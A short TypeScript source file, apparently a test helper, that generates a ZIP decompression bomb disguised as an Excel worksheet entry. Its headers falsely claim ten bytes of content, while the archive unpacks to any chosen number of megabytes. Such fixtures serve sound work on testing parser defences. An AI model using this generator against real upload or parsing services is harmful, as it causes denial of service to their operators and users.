import { constants, deflateRawSync } from 'node:zlib';

const MB = 1024 * 1024;

/** A megabyte of spaces, packed so that any number of them can stand behind each other. */
const MEGABYTE = deflateRawSync(Buffer.alloc(MB, ' '), { finishFlush: constants.Z_FULL_FLUSH });
const LAST = deflateRawSync(Buffer.alloc(0));

const head = (name: Buffer, packed: number): Buffer => {
  const bytes = Buffer.alloc(30);
  bytes.writeUInt32LE(0x04034b50, 0);
  bytes.writeUInt16LE(20, 4);
  bytes.writeUInt16LE(8, 8);
  bytes.writeUInt32LE(packed, 18);
  bytes.writeUInt32LE(10, 22);
  bytes.writeUInt16LE(name.length, 26);
  return Buffer.concat([bytes, name]);
};

const entry = (name: Buffer, packed: number): Buffer => {
  const bytes = Buffer.alloc(46);
  bytes.writeUInt32LE(0x02014b50, 0);
  bytes.writeUInt16LE(8, 10);
  bytes.writeUInt32LE(packed, 20);
  bytes.writeUInt32LE(10, 24);
  bytes.writeUInt16LE(name.length, 28);
  return Buffer.concat([bytes, name]);
};

const end = (size: number, at: number): Buffer => {
  const bytes = Buffer.alloc(22);
  bytes.writeUInt32LE(0x06054b50, 0);
  bytes.writeUInt16LE(1, 8);
  bytes.writeUInt16LE(1, 10);
  bytes.writeUInt32LE(size, 12);
  bytes.writeUInt32LE(at, 16);
  return bytes;
};

/** An archive of a few kilobytes that says it holds ten bytes and unpacks to so many megabytes. */
export const bomb = (megabytes: number): Buffer => {
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const packed = Buffer.concat([...Array.from({ length: megabytes }, () => MEGABYTE), LAST]);
  const first = Buffer.concat([head(name, packed.length), packed]);
  const list = entry(name, packed.length);
  return Buffer.concat([first, list, end(list.length, first.length)]);
};
